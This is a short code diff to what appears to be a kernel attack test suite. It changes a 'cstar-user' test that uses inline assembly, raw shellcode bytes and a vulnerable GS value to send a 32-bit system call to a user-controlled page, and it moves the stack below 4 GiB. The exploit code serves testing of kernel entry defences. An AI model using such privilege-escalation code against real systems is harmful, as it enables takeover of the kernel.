@@ -12,7 +12,10 @@ ATTACK("cstar-user")
 	u8 *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
 			MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE | MAP_LOCKED, -1, 0);
 	u32 low = (u32)(u64)page, back = low + 64;
-	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), result, own, stack = (u64)user_pages(16) + 15 * PAGE;
+	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), result, own;
+	// Below 4 GiB, too: compatibility mode need not keep the upper half of RSP.
+	u8 *stack = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE,
+			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE | MAP_LOCKED, -1, 0);
 
 	memcpy(page, hook, sizeof(hook));
 	memcpy(page + 32, "\x0f\x05\xea\0\0\0\0\x33\0", 9); // syscall; jmp far 33h:back
@@ -27,7 +30,7 @@ ATTACK("cstar-user")
 			 "pushq $0x23; push %2; lea 1f(%%rip), %%rsi; mov $20, %%eax; lretq;"
 			 "1: mov %%rbx, %%rsp; wrgsbase %%r12; mov %%r12, %1"
 			 : "=&a"(result), "=&r"(own)
-			 : "r"((u64)low + 32), "r"(gs), "r"(stack)
+			 : "r"((u64)low + 32), "r"(gs), "r"(stack + 15 * PAGE)
 			 : "rbx", "rcx", "rdx", "rsi", "r11", "r12", "memory", "cc");
 	if ((u32)result == MARK)
 		succeeded("a 32-bit system call went to a user page, which returned %#x", MARK);
